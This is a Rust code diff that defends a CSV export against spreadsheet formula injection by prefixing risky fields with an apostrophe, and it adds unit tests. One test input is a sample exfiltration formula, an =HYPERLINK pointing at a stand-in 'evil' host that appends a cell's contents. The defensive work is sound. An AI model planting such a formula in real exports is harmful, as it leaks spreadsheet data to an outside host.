@@ -12,10 +12,16 @@ use serde_json::Value;
 
 use super::Loaded;
 
-/// Quotes a field when it needs it (RFC 4180).
+/// Quotes a field when it needs it (RFC 4180). A field a spreadsheet would read as a formula
+/// (one beginning `=`, `+`, `-`, `@`, a tab or a carriage return: a workload named
+/// `=HYPERLINK(…)`, an engine's version as a server says it) is written as text, a `'` before
+/// it, as OWASP advises: opening the export runs nothing. Figures are written as numbers, not
+/// through here.
 pub fn field(s: &str) -> String {
-    if s.contains([',', '"', '\n', '\r']) {
-        format!("\"{}\"", s.replace('"', "\"\""))
+    let formula = s.starts_with(['=', '+', '-', '@', '\t', '\r']);
+    if formula || s.contains([',', '"', '\n', '\r']) {
+        let tick = if formula { "'" } else { "" };
+        format!("\"{tick}{}\"", s.replace('"', "\"\""))
     } else {
         s.to_string()
     }
@@ -68,5 +74,26 @@ pub fn lines(l: &Loaded, s: &mut String) {
                 );
             }
         }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::field;
+
+    /// A name a spreadsheet would run is written as text; a plain one as it is; quoting as
+    /// RFC 4180 has it.
+    #[test]
+    fn a_field_a_spreadsheet_would_run_is_written_as_text() {
+        assert_eq!(
+            field("=HYPERLINK(\"https://evil/?\"&A2,\"open\")"),
+            "\"'=HYPERLINK(\"\"https://evil/?\"\"&A2,\"\"open\"\")\""
+        );
+        for lead in ["+1", "-2+3", "@SUM(A1)", "\tx", "\rx"] {
+            assert!(field(lead).starts_with("\"'"), "{lead:?}: {}", field(lead));
+        }
+        assert_eq!(field("logs"), "logs");
+        assert_eq!(field("opensearch-2.19.1"), "opensearch-2.19.1");
+        assert_eq!(field("a,b"), "\"a,b\"");
     }
 }
